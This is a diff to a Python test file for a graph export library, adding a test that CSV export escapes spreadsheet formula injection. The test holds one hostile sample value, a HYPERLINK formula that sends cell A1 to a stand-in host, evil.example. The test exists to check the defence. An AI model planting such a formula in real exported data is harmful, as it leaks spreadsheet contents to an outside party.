@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import random
@@ -282,8 +284,22 @@ def test_networkx_and_exports(loaded: Graph) -> None:
     edge = g.get_edge_data("kim-kardashian", "north", key="PARENT_OF")
     assert edge["sources"] == ["a", "b"]
     assert "<graphml" in loaded.export("graphml")
-    assert loaded.export("csv").splitlines()[0].startswith("source,source_name,type")
+    assert loaded.export("csv").splitlines()[0].startswith('"source","source_name","type"')
     assert len(json.loads(loaded.export("json"))["edges"]) == g.number_of_edges()
+
+
+def test_csv_export_has_no_cell_a_spreadsheet_would_run(graph: Graph) -> None:
+    """Names and evidence that start like a formula get a leading single quote (OWASP);
+    confidence stays a number (unquoted: read back as a float)."""
+    evil = '=HYPERLINK("http://evil.example/?"&A1, "open")'
+    marriage = Fact(doc="f", relation="spouse", subject="-Jane Roe", object="@John Doe",
+                    evidence=evil, confidence=0.9, start="2010")
+    people = [Person("-Jane Roe"), Person("@John Doe")]
+    graph.ingest_extractions([Extraction(document("f"), people, [marriage])])
+    header, row = csv.reader(io.StringIO(graph.export("csv")), quoting=csv.QUOTE_NONNUMERIC)
+    cells = dict(zip(header, row, strict=True))
+    assert (cells["source_name"], cells["target_name"]) == ("'-Jane Roe", "'@John Doe")
+    assert (cells["evidence"], cells["start"], cells["confidence"]) == ("'" + evil, "2010", 0.9)
 
 
 def test_bulk_load_rows(graph: Graph) -> None:
